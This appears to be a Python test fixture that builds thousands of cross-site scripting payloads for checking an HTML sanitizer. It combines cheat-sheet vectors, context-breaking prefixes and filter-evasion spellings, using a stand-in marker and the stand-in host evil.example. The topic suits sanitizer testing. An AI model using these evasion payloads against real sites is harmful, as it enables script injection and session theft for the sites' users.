"""Texts of people who want a page to run or load something of theirs, some thousands of them.

Each would set `window.__pwned`, or ask something of `evil.example`, if it were read as a part of
the page in any of the usual ways: as HTML, as an attribute, an address, a style, a script.
"""

from __future__ import annotations

RUNS = "window.__pwned=1"
HOST = "//evil.example"

#: As https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html and
#: https://portswigger.net/web-security/cross-site-scripting/cheat-sheet have them (read 2026-11).
_VECTORS = (
    "<script>{js}</script>",
    "<script src={host}/x.js></script>",
    "<script type=module>{js}</script>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href=data:,{js} />",
    "<img src=/b/src/0.png onerror={js}>",
    "<img src=/b/src/0.png onload={js} onerror={js}>",
    "<img/src='/b/src/0.png'/onerror='{js}'>",
    "<img src={host}/x.png>",
    "<img srcset='{host}/x.png 2x'>",
    "<image href={host}/x.png onerror={js}>",
    "<picture><source srcset={host}/x.png><img></picture>",
    "<svg onload={js}>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{js}>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{js}</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src onerror={js}></style></mglyph></table></mtext>",
    "<math href=javascript:{js}>x</math>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<iframe src=javascript:{js}></iframe>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src={host}></iframe>",
    "<object data=javascript:{js}></object>",
    "<object data={host}/x.swf></object>",
    "<embed src=javascript:{js}>",
    "<a href=javascript:{js}>x</a>",
    "<a href='java\tscript:{js}'>x</a>",
    "<a href='&#106;avascript:{js}'>x</a>",
    "<a href='data:text/html,<script>{js}</script>'>x</a>",
    "<a href=vbscript:{js}>x</a>",
    "<a ping={host} href=/>x</a>",
    "<area href=javascript:{js}>",
    "<base href={host}/>",
    "<link rel=stylesheet href={host}/x.css>",
    "<link rel=prefetch href={host}/>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=refresh content='0;url={host}'>",
    "<form action=javascript:{js}><button>x</button></form>",
    "<form action={host}><input type=submit></form>",
    "<button formaction=javascript:{js}>x</button>",
    "<input autofocus onfocus={js}>",
    "<input type=image src={host}/x.png onerror={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<video src={host}/x.webm onerror={js}></video>",
    "<video poster={host}/x.png></video>",
    "<video><source onerror={js} src=/b/src/0.png></video>",
    "<audio src=/b/src/0.png onerror={js}></audio>",
    "<marquee onstart={js}>",
    "<style>@import '{host}/x.css';</style>",
    "<style>*{{background:url({host}/x.png)}}</style>",
    "<p style='background:url({host}/x.png)'>",
    "<p style='position:fixed;inset:0;width:9999px'>",
    "<table background={host}/x.png>",
    "<div onmouseover={js} style=position:fixed;inset:0>",
    "<dialog open onclose={js}>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src onerror={js}>'></noscript>",
    "<xss onfocus={js} tabindex=1 autofocus>",
    "<img name=getElementById><form name=body><input name=attributes></form>",
    "<a id=document href=/></a><a id=location href=/></a>",
    "<plaintext>",
    "<!--><img src=/b/src/0.png onerror={js}>-->",
    "<![CDATA[<img src=/b/src/0.png onerror={js}>]]>",
    "javascript:{js}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "';{js};//",
)
#: What it stands in, or what it closes first.
_PLACES = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</style>{}",
    "--!>{}",
    "<svg>{}",
    "<math>{}",
    "<table><tr>{}",
    '<b title="{}">',
    "<a href='{}'>",
    "<template>{}",
)
#: The same once more, for filters that know how it is usually spelt.
_SPELLINGS = (
    lambda text: text,
    lambda text: text.replace("script", "ScRiPt").replace("on", "oN"),
    lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace("=", " =\n"),
    lambda text: text.replace("<", "<\0"),
    lambda text: text.replace("javascript:", "\x01java\nscript&colon;"),
    lambda text: text.replace("<", "%3C").replace(">", "&gt;"),
    lambda text: text.replace("<", "\u2039").replace(">", "\u203a"),
)


def payloads() -> list[str]:
    """Each once; always the same."""
    vectors = [vector.format(js=RUNS, host=HOST) for vector in _VECTORS]
    placed = [place.replace("{}", vector) for vector in vectors for place in _PLACES]
    return list(dict.fromkeys(spelt(text) for text in placed for spelt in _SPELLINGS))


def some_payloads() -> list[str]:
    """Each vector in each place, spelt in another way each time: a seventh of them all."""
    vectors = [vector.format(js=RUNS, host=HOST) for vector in _VECTORS]
    spelt = [
        _SPELLINGS[(one + other) % len(_SPELLINGS)](place.replace("{}", vector))
        for one, vector in enumerate(vectors)
        for other, place in enumerate(_PLACES)
    ]
    return list(dict.fromkeys(spelt))


def plain_payloads() -> list[str]:
    """Each vector as it is."""
    return [vector.format(js=RUNS, host=HOST) for vector in _VECTORS]
